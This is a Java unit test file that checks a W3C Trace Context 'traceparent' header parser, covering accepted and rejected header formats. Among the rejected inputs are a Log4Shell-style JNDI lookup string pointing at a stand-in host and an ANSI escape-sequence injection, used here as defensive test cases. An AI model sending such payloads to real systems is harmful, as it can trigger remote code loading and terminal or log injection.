package org.lintel.browser;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** W3C Trace Context §3.2. */
class TraceContextTest {

    private static final String ID = "4bf92f3577b34da6a3ce929d0e0e4736";
    private static final String HEADER = "00-" + ID + "-00f067aa0ba902b7-01";

    @ParameterizedTest
    @ValueSource(strings = {HEADER, "00-" + ID + "-00f067aa0ba902b7-00", "cc-" + ID + "-00f067aa0ba902b7-01",
            "cc-" + ID + "-00f067aa0ba902b7-01-what-the-future-will-be-like"})
    void theIdOfAWellFormedHeaderIsTheTrace(String header) {
        assertThat(traceId(Request.from("192.0.2.1").header("traceparent", header))).isEqualTo(ID);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "00", "00-" + ID, "ff-" + ID + "-00f067aa0ba902b7-01",
            "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
            "00-" + ID + "-0000000000000000-01", "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01", HEADER + "-more", HEADER + "1",
            " " + HEADER, HEADER + "\n", "cc-" + ID + "-00f067aa0ba902b7-01.what", "cc-" + ID + "-00f067aa0ba902b7-01-\u001b[2J",
            "00-4bf92f3577b34da6a3ce929d0e0e473\u0661-00f067aa0ba902b7-01", "${jndi:ldap://evil.example/x}"})
    void s19_anythingElseIsNone(String header) {
        assertThat(traceId(Request.from("192.0.2.1").header("traceparent", header))).isNull();
    }

    @Test
    void s19_neitherAreTwoNorNone() {
        assertThat(traceId(Request.from("192.0.2.1").header("traceparent", HEADER).header("traceparent", HEADER))).isNull();
        assertThat(traceId(Request.from("192.0.2.1"))).isNull();
    }

    private static String traceId(Request request) {
        var trace = new TraceContext();
        trace.request = request.servlet();
        return trace.traceId().orElse(null);
    }
}
